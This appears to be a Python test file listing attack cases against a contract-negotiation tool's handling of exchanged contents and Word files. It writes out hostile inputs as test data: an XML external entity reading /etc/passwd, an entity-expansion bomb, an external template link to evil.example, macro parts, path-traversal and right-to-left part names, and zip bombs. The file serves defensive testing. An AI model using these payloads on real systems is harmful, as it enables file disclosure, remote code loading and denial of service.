"""What may be tried with contents: naming what is not theirs, saying two things, Word files that do harm."""

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import replace
from hashlib import sha256

from negotiator.documents import LIMITS, read
from negotiator.domain.versions import Clause, VersionProposed, clauses_of, tree_bytes
from negotiator.exchange import BytesSource, Limits, verify
from negotiator.ledger import Entry
from negotiator.services import packages, versions
from negotiator.services.receipts import State
from tests.attacks.catalogue import Arrival, attack
from tests.attacks.scene import Scene
from tests.services.desks import AGREEMENT, START, TEXT, marked, newest, receive, word

NEXT = TEXT.replace("150 days", "170 days")
SECRET = b"our fallback is five million"


def digest(data: bytes) -> str:
    return sha256(data).hexdigest()


def proposal(scene: Scene, proposed: VersionProposed) -> Entry:
    """Return the act by which our side proposes a version, whatever it names."""
    return scene.drafting.draft([State(proposed, True)])[0]


def bound(scene: Scene) -> VersionProposed:
    """Return the version that both sides hold."""
    return newest(scene.receiver).proposed


def with_version(
    scene: Scene, *, text: str = NEXT, source: bytes | None = None, carried: bool = True, documents: Mapping[str, bytes]
) -> bytes:
    """Return a package with a version of a text, the file that it binds, and files for its readers."""
    file = word(text) if source is None else source
    blocks = read(word(text), name="a.docx").blocks
    numbers = iter(map(str, range(999)))
    tree = tree_bytes(
        clauses_of(blocks, text_hash=lambda one: digest(one.encode()), new_id=numbers.__next__), source=digest(file)
    )
    proposed = VersionProposed(
        instrument=AGREEMENT,
        turn=2,
        state="sent",
        tree=digest(tree),
        source=digest(file),
        source_name="supply.docx",
        parents=(bound(scene).tree,),
    )
    contents = [tree, *(block.text.encode() for block in blocks), *([file] if carried else [])]
    return scene.letter(entries=[proposal(scene, proposed)], contents=contents, documents=documents)


def with_word(scene: Scene, data: bytes) -> Iterator[Arrival]:
    """Yield the Word file in both places: as the file that a version binds, and as the one for its readers."""
    yield with_version(scene, documents={"Supply v2.docx": data})
    yield with_version(scene, source=data, documents={})


def changed(parts: Mapping[str, bytes] | None = None, *, swap: tuple[str, bytes, bytes] | None = None) -> bytes:
    """Return a Word file with further parts, or with some bytes of a part exchanged."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word(NEXT))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            if swap is not None and name == swap[0]:
                assert swap[1] in data
                data = data.replace(swap[1], swap[2], 1)
            new.writestr(name, data)
        for name, data in (parts or {}).items():
            new.writestr(name, data)
    return out.getvalue()


# What acts name


@attack("an act that names what is our team's", code="content-foreign", family="contents", rule=93)
def foreign(scene: Scene) -> Iterator[Arrival]:
    """Whether the receiver holds it or not, the answer is the same: nothing can be guessed."""
    knowing = scene.fresh()
    knowing.theirs.vault.blobs.put(SECRET)
    for pair in (knowing, scene.pair):
        again = replace(bound(scene), turn=2)
        for probe in (replace(again, source=digest(SECRET)), replace(again, tree=digest(SECRET))):
            act = proposal(scene, probe)
            yield pair.theirs, scene.letter(pair=pair, entries=[act])
        clause = Clause(id="c", kind="paragraph", label="", level=0, heading="", place="", text_hash=digest(SECRET))
        tree = tree_bytes([clause])
        act = proposal(scene, VersionProposed(instrument=AGREEMENT, turn=2, state="sent", tree=digest(tree)))
        yield pair.theirs, scene.letter(pair=pair, entries=[act], contents=[tree])


@attack("an act that names what was erased here", code="content-missing", family="contents", rule=94)
def missing(scene: Scene) -> Iterator[Arrival]:
    pair = scene.fresh()
    held = newest(pair.theirs).proposed
    pair.theirs.vault.blobs.erase(held.source)
    act = pair.ours.draft([State(replace(held, turn=2), True)])[0]
    yield pair.theirs, scene.letter(pair=pair, entries=[act])


@attack("ballast that no act names", code="content-unnamed", family="contents", rule=95)
def unnamed(scene: Scene) -> Iterator[Arrival]:
    yield scene.letter(contents=[b"ballast"])
    yield scene.letter(contents=[SECRET, bytes(1 << 20)])


@attack("a text that is none", code="content-tree", family="contents", rule=96)
def no_tree(scene: Scene) -> Iterator[Arrival]:
    for tree in (b"no json", b"[" * 100_000, b"[]", b'{"clauses":[],"format":"negotiator-clause-tree/1","source":7}'):
        act = proposal(scene, replace(bound(scene), tree=digest(tree)))
        yield scene.letter(entries=[act], contents=[tree])


@attack("another file under a text that is bound", code="other-file", family="contents", rule=97)
def other_file(scene: Scene) -> Iterator[Arrival]:
    file = word(NEXT)
    act = proposal(scene, replace(bound(scene), source=digest(file)))
    yield scene.letter(entries=[act], contents=[file])


@attack(
    "a version made from a text that nobody showed", code="base-unknown", family="contents", rule=98, outcome="told"
)
def unknown_base(scene: Scene) -> Iterator[Arrival]:
    pair = scene.fresh()
    data = word(NEXT)
    versions.take_in(pair.ours, data, name="supply.docx", instrument=AGREEMENT)
    proposed = newest(pair.ours).proposed
    blobs = pair.ours.vault.blobs
    shown = replace(proposed, parents=("c" * 64,), state="sent", note="", label="", original="")
    act = pair.ours.draft([State(shown, True)])[0]
    texts = [block.text.encode() for block in read(blobs.get(proposed.source), name="a.docx").blocks]
    contents = {digest(one): one for one in (blobs.get(proposed.tree), blobs.get(proposed.source), *texts)}
    yield pair.theirs, scene.letter(pair=pair, entries=[act], contents=list(contents.values()))


# Word files


@attack("a Word file that reads differently than its version", code="document-differs", family="contents", rule=99)
def reads_differently(scene: Scene) -> Iterator[Arrival]:
    other = word(TEXT.replace("150 days", "15 days"))
    yield with_version(scene, documents={"Supply v2.docx": other})
    yield with_version(scene, source=other, documents={})
    tracked = marked(word(), TEXT.replace("150 days", "15 days"), author="Ana Roe", at=START)
    yield with_version(scene, documents={"Supply v2.docx": tracked})


@attack("an old file under a new text", code="document-differs", family="contents", rule=99)
def old_file(scene: Scene) -> Iterator[Arrival]:
    """The file is not carried, since both sides hold it; its words are those of another version."""
    held = scene.receiver.vault.blobs.get(bound(scene).source)
    yield with_version(scene, source=held, carried=False, documents={})


@attack("entities in a Word file", code="document-entities", family="contents", rule=100)
def entities(scene: Scene) -> Iterator[Arrival]:
    start = b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
    bomb = b'<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    outside = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    for declared in (bomb, outside):
        yield from with_word(scene, changed({"word/extra.xml": start + declared + b"<w>&b;</w>"}))


@attack("a template or a text on a server", code="document-outside", family="contents", rule=101)
def outside(scene: Scene) -> Iterator[Arrival]:
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    for name, target in ((b"attachedTemplate", b"https://evil.example/a.dotm"), (b"subDocument", b"other.docx")):
        link = b'<Relationship Id="rX" Type="' + kind + name + b'" Target="' + target + b'" TargetMode="External"/>'
        swap = ("word/_rels/document.xml.rels", b"</Relationships>", link + b"</Relationships>")
        yield from with_word(scene, changed(swap=swap))


@attack("macros in a Word file", code="document-active", family="contents", rule=102)
def macros(scene: Scene) -> Iterator[Arrival]:
    for name in ("word/vbaProject.bin", "word/activeX/activeX1.bin"):
        yield from with_word(scene, changed({name: b"\xd0\xcf\x11\xe0"}))
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    enabled = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    yield from with_word(scene, changed(swap=("[Content_Types].xml", main, enabled)))


@attack("names that lead out of a Word file", code="unsafe-part", family="contents", rule=103)
def part_names(scene: Scene) -> Iterator[Arrival]:
    for name in ("../../evil.xml", "word/doc\u202eument.xml"):
        yield from with_word(scene, changed({name: b"<a/>"}))


@attack("a bomb in a Word file", code="document-too-large", family="contents", rule=104)
def word_bomb(scene: Scene) -> Iterator[Arrival]:
    yield from with_word(scene, changed({"word/media/image1.bin": bytes(30 << 20)}))
    data = bytearray(changed({"word/media/image1.bin": b"x"}))
    place = data.rindex(b"PK\x01\x02")
    struct.pack_into("<L", data, place + 24, LIMITS.part_size + 1)
    yield from with_word(scene, bytes(data))


@attack("a Word file that is cut off", code="not-a-document", family="contents", rule=105)
def cut_word(scene: Scene) -> Iterator[Arrival]:
    for data in (word(NEXT)[:-30], b"PK\x03\x04 not one", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)):
        yield from with_word(scene, data)


@attack("a Word file whose parts are damaged", code="damaged-part", family="contents", rule=106)
def damaged_word(scene: Scene) -> Iterator[Arrival]:
    yield from with_word(scene, changed(swap=("word/document.xml", b"</w:body>", b"</w:bodx>")))
    yield from with_word(scene, changed(swap=("word/document.xml", b"UTF-8", b"UTF-7")))


# Between verifying and importing


class _Exchanged(BytesSource):
    """A file that is another one when it is opened for the second time."""

    def __init__(self, first: bytes, then: bytes) -> None:
        super().__init__(first)
        self._then = [first, then]

    def open(self) -> io.BytesIO:
        return io.BytesIO(self._then.pop(0) if len(self._then) > 1 else self._then[0])


@attack("a file exchanged after it was verified", code="file-changed-meanwhile", family="contents", rule=107)
def exchanged(scene: Scene) -> Iterator[Arrival]:
    other = scene.forger.with_values(scene.files, note="another")
    source = _Exchanged(scene.asice, other)
    package = verify(source, identities=(scene.ben,), trust={}, limits=Limits(held=0))
    taken: list[bytes] = []
    package.deliver({file.path: lambda pieces: taken.extend(pieces) for file in package.files})
    yield b"accepted"


@attack("the deal moved after the package was verified", code="plan-changed", family="contents", rule=108)
def moved(scene: Scene) -> Iterator[Arrival]:
    pair = scene.fresh()
    first, second = scene.letter(pair=pair, note="one"), scene.letter(pair=pair, note="two")
    shown = packages.open_package(pair.theirs, second)
    receive(pair.theirs, first)
    packages.take(pair.theirs, shown, asked=True)
    yield b"accepted"
